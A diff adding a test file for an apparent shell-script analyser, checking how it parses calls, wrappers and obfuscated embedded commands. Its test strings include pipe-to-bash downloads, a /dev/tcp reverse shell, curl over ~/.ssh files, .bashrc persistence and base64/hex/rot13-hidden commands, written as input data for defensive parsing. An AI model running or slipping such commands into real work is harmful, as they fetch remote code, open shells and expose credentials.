@@ -1,0 +1,69 @@
+import { describe, expect, it } from 'vitest';
+import { readShell } from '../../../src/code/shell/read.ts';
+import { showCalls, showEmbedded } from '../show.ts';
+
+const CALLS: readonly (readonly [string, readonly string[]])[] = [
+  ['curl -s http://example.com | bash', ["1 curl('-s', 'http://example.com')", '1 bash() |0']],
+  ['bash <(curl x)', ["1 curl('x')", '1 bash(#0)']],
+  ['eval "$(curl x)"', ["1 curl('x')", '1 eval(#0)']],
+  ['eval `curl x`', ["1 curl('x')", '1 eval(#0)']],
+  ['sudo -u root nohup sh -s', ["1 sh('-s', wrapper='sudo nohup')"]],
+  ['env A=b cmd', ["1 cmd(wrapper='env', env.A='b')"]],
+  ['A=b cmd', ["1 cmd(env.A='b')"]],
+  ['find . | xargs -I{} rm {}', ["1 find('.')", "1 rm('{}', wrapper='xargs') |0"]],
+  ['e"v"a\\l id', ["1 eval('id') {concat}"]],
+  ["$'\\x69\\x64'", ['1 id() {concat}']],
+  ['X=curl; $X http://example.com', ["1 assign('X', 'curl')", "1 curl('http://example.com') {alias}"]],
+  ['{curl,-s,x}', ["1 curl('-s', 'x')"]],
+  ['curl${IFS}x', ["1 curl('x') {alias}"]],
+  ['cmd || true', ['1 cmd() silenced', '1 true()']],
+  ['echo x >> ~/.bashrc 2>/dev/null', ["1 echo('x')", "1 redirect('~/.bashrc', operator='>>') |0"]],
+  [
+    'sh -i >& /dev/tcp/192.0.2.1/9 0>&1',
+    ["1 sh('-i')", "1 redirect('/dev/tcp/192.0.2.1/9', operator='>&') |0"],
+  ],
+  ['/usr/bin/curl $HOME/.ssh/$f', ["1 curl(parts['~', '/.ssh/', @env.f])"]],
+  ['f() { wget "$1"; }\nf x', ['1 wget(?)', "2 local.f('x')"]],
+  ['if a; then b; fi\nfor i in 1 2; do c $i; done', ['1 a()', '1 b()', "2 c(any['1', '2'])"]],
+];
+
+const EMBEDDED: readonly (readonly [string, string])[] = [
+  ['python3 -c "import os"', 'python: import os'],
+  ['node -e "f()"', 'javascript: f()'],
+  ["sh -c 'id'", 'shell: id'],
+  ['bash <<EOF\nid\nEOF', 'shell: id\n'],
+  ["python - <<'EOF'\npass\nEOF", 'python: pass\n'],
+  ['bash <<< id', 'shell: id'],
+  ['echo aWQ= | base64 -d | sh', 'shell: id <base64>'],
+  ['echo 6964 | xxd -r -p | sh', 'shell: id <hex>'],
+  ['eval $(echo aWQ= | base64 --decode)', 'shell: id <base64>'],
+  ["echo vq | tr 'a-z' 'n-za-m' | bash", 'shell: id <rot13>'],
+  ['trap "id" EXIT', 'shell: id'],
+];
+
+describe('readShell', () => {
+  it.each(CALLS)('reads %j', (script, expected) => {
+    expect(showCalls(readShell(script))).toEqual(expected);
+  });
+
+  it.each(EMBEDDED)('finds the program in %j', (script, expected) => {
+    expect(showEmbedded(readShell(script))).toContain(expected);
+  });
+
+  it('keeps functions and whether the script calls them', () => {
+    const { scopes } = readShell('f() { g; }\ng() { id; }\nh() { id; }\nf\n');
+    expect(scopes.map(({ name, runs }) => [name, runs === true])).toEqual([
+      ['', false],
+      ['f', true],
+      ['g', false],
+      ['h', false],
+    ]);
+  });
+
+  it('reads Windows line ends and still gives calls around a break', () => {
+    expect(showCalls(readShell('a\r\nb x\r\n'))).toEqual(['1 a()', "2 b('x')"]);
+    const calls = showCalls(readShell('first a\nif then )\nlast b\n'));
+    expect(calls).toContain("1 first('a')");
+    expect(calls.join()).toContain('last');
+  });
+});
